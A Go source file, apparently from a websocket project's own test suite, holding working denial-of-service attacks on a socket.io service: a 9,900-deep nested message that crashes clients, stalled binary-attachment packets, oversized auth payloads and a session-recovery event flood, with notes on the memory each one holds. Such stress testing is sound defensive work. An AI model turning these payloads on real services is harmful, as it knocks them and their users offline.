package abuse

// Attacks on what a service keeps for a client, and on what it passes on to others.

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/brunossouza/websocket-escalonavel/test/wire"
)

// nesting says to the room what is nested deeper than its clients can parse. Every socket.io-client ended with a parse
// error, and the sender stayed; nesting_test.go looks at real ones.
func nesting(ctx context.Context, addrs []string) (Did, error) {
	const depth, workers = 9900, 4
	const event = `451-["messages",{"nickname":%q,"message":%s{"_placeholder":true,"num":0}%s}]`
	packet := append(text(fmt.Sprintf(event, nickname, strings.Repeat("[", depth), strings.Repeat("]", depth))),
		wire.Frame{Opcode: wire.Binary, Payload: []byte("x")}.Bytes()...)
	return together(ctx, workers, func(ctx context.Context, _ int, t *tally) {
		c, err := gather(addrs[0], 1, false, true)
		if err != nil {
			t.turnedAway(ctx)
			return
		}
		defer c.leave()
		t.add("said", 1)
		c[0].write(packet, time.Second) // which may have ended it already
		if c[0].ends(ctx, time.Second) {
			t.add("senders ended", 1)
		}
	}), nil
}

// ends reads until the service closes, for so long.
func (m *mute) ends(ctx context.Context, d time.Duration) bool {
	m.ws.SetReadDeadline(time.Now().Add(d))
	defer context.AfterFunc(ctx, func() { m.ws.SetReadDeadline(time.Unix(1, 0)) })()
	for {
		f, err := m.ws.ReadFrame()
		if err != nil || f.Opcode == wire.Close {
			return !errors.Is(err, os.ErrDeadlineExceeded)
		}
	}
}

// unfinished begins so many packets of a megabyte whose attachments never come. 30 of them held 0.5 GB, for good.
func unfinished(clients int) Attack {
	return func(ctx context.Context, addrs []string) (Did, error) {
		packet := text(`4510-["x"` + strings.Repeat(",0", 490_000) + `]`)
		return together(ctx, clients, func(ctx context.Context, _ int, t *tally) {
			c, err := gather(addrs[0], 1, false, false)
			if err != nil {
				t.turnedAway(ctx)
				return
			}
			defer c.leave()
			if c[0].write(packet, time.Second) == nil {
				t.add("packets begun", 1)
			}
			if c[0].ends(ctx, patience) {
				t.add("senders ended", 1)
			}
		}), nil
	}
}

// auth has so many clients connect with 900 KB of auth, which a socket keeps as long as it is there.
func auth(clients int) Attack {
	return func(ctx context.Context, addrs []string) (Did, error) {
		packet := text(`40{"x":"` + strings.Repeat("x", 900_000) + `"}`)
		return together(ctx, clients, func(ctx context.Context, _ int, t *tally) {
			ws, err := wire.DialWebSocket(addrs[0], wire.NewSocket)
			if err != nil {
				t.turnedAway(ctx)
				return
			}
			m := &mute{addr: addrs[0], ws: ws}
			defer ws.Close()
			ws.SetReadDeadline(time.Now().Add(patience))
			f, err := ws.ReadFrame() // the open packet
			if err == nil && m.write(packet, patience) == nil {
				f, err = ws.ReadFrame()
			}
			if err != nil {
				t.turnedAway(ctx)
				return
			}
			if strings.HasPrefix(string(f.Payload), "44") {
				t.add("refused", 1)
				pause(ctx, 20*time.Millisecond)
				return
			}
			t.add("let in", 1)
			m.ends(ctx, patience)
		}), nil
	}
}

// recovering has a client say "registrar" as fast as it can. It is answered, and where sessions can be recovered each
// answer is kept for two minutes: 10 s of that held 1.5 GB.
func recovering(clients int) Attack {
	return func(ctx context.Context, addrs []string) (Did, error) {
		const burst = 500
		said := []byte(strings.Repeat(string(text(`42["registrar"]`)), burst))
		return together(ctx, clients, func(ctx context.Context, _ int, t *tally) {
			c, err := gather(addrs[0], 1, false, false)
			if err != nil {
				t.turnedAway(ctx)
				return
			}
			m := c[0]
			read := make(chan struct{})
			go func() {
				defer close(read)
				var b [64 << 10]byte
				for {
					if _, err := m.ws.Conn.Conn.Read(b[:]); err != nil {
						return
					}
				}
			}()
			m.ws.SetReadDeadline(time.Time{})
			for ctx.Err() == nil && m.write(said, time.Second) == nil {
				t.add("said", burst)
			}
			c.leave()
			<-read
		}), nil
	}
}
